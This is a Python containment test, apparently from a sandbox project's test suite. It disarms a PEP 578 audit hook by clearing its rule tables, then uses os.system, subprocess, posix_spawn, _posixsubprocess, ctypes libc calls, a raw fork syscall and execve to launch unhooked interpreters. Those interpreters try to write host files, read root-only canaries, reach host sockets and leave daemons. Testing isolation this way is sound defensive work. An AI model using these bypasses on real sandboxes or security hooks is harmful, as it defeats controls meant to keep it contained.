#!/usr/bin/python3
"""Get around the [policy] audit hook, then run a program that attacks the host.

The audit hook (PEP 578, in the generated sitecustomize) explains; the kernel layers are the
boundary. This attack assumes the hook falls and checks that nothing else does. The script, under
a profile whose policy leaves ctypes alone (default, then datascience, where the kernel also lets
processes run), first confirms the hook refuses os.system, then gets around it every way it can:
it empties the hook's rule tables (sitecustomize globals), and starts a hook-free interpreter
(python3 -I -S) through os.system, subprocess, os.posix_spawn, _posixsubprocess.fork_exec, libc
system() and a raw fork() syscall through ctypes, and finally replaces itself with one through
libc execve() (ctypes, no audit event) or os.execv. Every such program tries to create a
marker-named file in a world-writable directory inside the bound /usr, in a world-writable host
/tmp directory and in /, /etc, /usr, /sandbox, /var/tmp; to read a root-only canary in the bound
/usr and a world-readable one in the host's /tmp; to connect to a TCP listener on the host's
127.0.0.1 and to a host abstract unix socket; and (where fork works) to leave a setsid'd daemon
behind. Contained when the host sees no marker file and no change in either fixture directory,
no canary secret in the output, no connection on either listener, and no process of the run
after it ended. Whether the hook could be got around is reported in the notes, not judged: it
is not the boundary.
"""
import os
import select
import socket
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import attack as A

# The program every bypass starts: a plain interpreter without site, so without the hook.
CHILD = r'''
import json, os, socket, sys, time
MARKER, via, fixture, host_tmp, canary_root, canary_tmp, port, abstract = sys.argv[1:9]
def note(what, result):
    print("NOTE " + json.dumps({"what": what, "result": result}), flush=True)
def attempt(what, fn):
    try:
        note(what, "ok: " + repr(fn())[:300])
    except Exception as e:
        note(what, "%s: %s" % (type(e).__name__, e))
note("child ran via " + via, "hook-free: %s" % ("sitecustomize" not in sys.modules))
name = "pwned-%s-%s" % (MARKER, via)
for d in (fixture, host_tmp, "/", "/etc", "/usr", "/sandbox", "/var/tmp", "/proc/1/root" + fixture):
    p = os.path.join(d, name)
    attempt("write " + p, lambda p=p: open(p, "w").write("x"))
for c in (canary_root, canary_tmp, "/proc/1/root" + canary_tmp):
    attempt("read " + c, lambda c=c: open(c).read())
def tcp():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(1)
    s.connect(("127.0.0.1", int(port)))
    s.sendall(b"PWNED " + MARKER.encode())
attempt("connect tcp 127.0.0.1:" + port, tcp)
def unix():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(1)
    s.connect("\0" + abstract)
    s.sendall(b"PWNED " + MARKER.encode())
attempt("connect abstract @" + abstract, unix)
def daemon():
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(30)
        os._exit(0)
    os.waitpid(pid, 0)
    return pid
attempt("daemonize", daemon)
if via == "exec":
    note("done", 0)
'''

SCRIPT = r'''
import shlex, socket, subprocess
fixture, host_tmp, canary_root, canary_tmp, port, abstract, child = ARGS[:7]
py = "/usr/bin/python3"

def argv(via):
    return [py, "-I", "-S", "-c", child, MARKER, via, fixture, host_tmp, canary_root, canary_tmp,
            port, abstract]

# The hook is there: os.system is refused with the sandbox's message.
attempt("hooked os.system", os.system, "true")

def disarm():
    import sitecustomize
    for attr in ("DENY_EVENTS", "DENY_IMPORTS", "DENY_CALLS"):
        getattr(sitecustomize, attr).clear()
    return "cleared"
attempt("disarm: clear sitecustomize's rule tables", disarm)

attempt("run via os.system", os.system, shlex.join(argv("system")))
attempt("run via subprocess", lambda: subprocess.run(argv("subprocess"), timeout=10).returncode)
attempt("run via os.posix_spawn",
        lambda: os.waitpid(os.posix_spawn(py, argv("posix_spawn"), dict(os.environ)), 0))

def fork_exec():
    import _posixsubprocess
    r, w = os.pipe()
    pid = _posixsubprocess.fork_exec(
        [a.encode() for a in argv("fork_exec")], [py.encode()], True, (w,), None, None,
        -1, -1, -1, -1, -1, -1, r, w, True, False, -1, None, None, None, -1, None, False)
    os.close(w)
    return os.waitpid(pid, 0)
attempt("run via _posixsubprocess.fork_exec", fork_exec)

libc.system.argtypes = [ctypes.c_char_p]
attempt("run via libc system()", libc.system, shlex.join(argv("libc_system")).encode())

sys.stdout.flush()
r = syscall(57)  # fork
if r == 0:
    try:
        os.execv(py, argv("raw_fork"))
    finally:
        os._exit(127)
note("raw fork()", r)
if r > 0:
    attempt("wait raw fork child", os.waitpid, r, 0)

# Replace the script with the hook-free interpreter: libc execve (no audit event), os.execv.
args = argv("exec")
c_argv = (ctypes.c_char_p * (len(args) + 1))(*[a.encode() for a in args], None)
env = [("%s=%s" % kv).encode() for kv in os.environ.items()]
c_env = (ctypes.c_char_p * (len(env) + 1))(*env, None)
sys.stdout.flush()
libc.execve.argtypes = [ctypes.c_char_p, ctypes.c_void_p, ctypes.c_void_p]
note("libc execve()", -ctypes.get_errno() if libc.execve(py.encode(), c_argv, c_env) else 0)
attempt("os.execv", os.execv, py, args)
note("done", 0)
'''

PROFILES = ("default", "datascience")


def test():
    judge = A.Judge("programs started past the [policy] audit hook (sitecustomize rule tables "
                    "cleared, ctypes, _posixsubprocess, raw fork, execve)")
    fixture = A.usr_fixture_dir(mode=0o777)
    canary_root, secret_root = A.canary(fixture, "root-0400.txt", mode=0o400, owner=0)
    host_tmp = A.shared_dir(mode=0o777)
    canary_tmp, secret_tmp = A.canary(host_tmp, "world-readable.txt", mode=0o644)
    states = {str(fixture): A.tree_state(fixture), str(host_tmp): A.tree_state(host_tmp)}

    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(16)
    tcp.setblocking(False)
    A.at_cleanup(tcp.close)
    abstract = A.new_marker() + "-listener"
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind("\0" + abstract)
    unix.listen(16)
    unix.setblocking(False)
    A.at_cleanup(unix.close)

    diagnostics = []
    for prof in PROFILES:
        sb = A.Sandbox(SCRIPT, [fixture, host_tmp, canary_root, canary_tmp,
                                tcp.getsockname()[1], abstract, CHILD],
                       options=["-p", prof], timeout="20s")
        o = sb.run()
        A.check_behaved(judge, sb, allowed=(0,), expect_notes=["done"])
        A.check_secrets(judge, o, {f"{prof}: root-only canary": secret_root,
                                   f"{prof}: host /tmp canary": secret_tmp})
        name = "pwned-" + sb.marker
        for d in ("/", "/etc", "/usr", "/var/tmp", "/tmp", "/sandbox", str(fixture),
                  str(host_tmp)):
            try:
                entries = os.listdir(d)
            except OSError:
                continue
            for entry in entries:
                if entry.startswith(name):
                    judge.escape(f"{prof}: {os.path.join(d, entry)} was created on the host")
                    A.remove(os.path.join(d, entry))
        for root, state in states.items():
            after = A.tree_state(root)
            if after != state:
                changed = sorted(k for k in set(state) | set(after)
                                 if state.get(k) != after.get(k))
                judge.escape(f"{prof}: host files changed: {changed[:5]}")
        for label, listener in (("TCP 127.0.0.1", tcp), ("abstract unix", unix)):
            if select.select([listener], [], [], 0.2)[0]:
                conn, peer = listener.accept()
                data = conn.recv(100)
                conn.close()
                judge.escape(f"{prof}: the host's {label} listener accepted {peer!r} {data!r}")
        ok = o.succeeded("write ") + o.succeeded("read ") + o.succeeded("connect ")
        if ok:
            judge.escape(f"{prof}: the program reports success for: " + ", ".join(ok[:5]))
        diagnostics.append(f"=== profile {prof}\n" + o.describe())
    judge.done("\n".join(diagnostics))


if __name__ == "__main__":
    A.main(test)
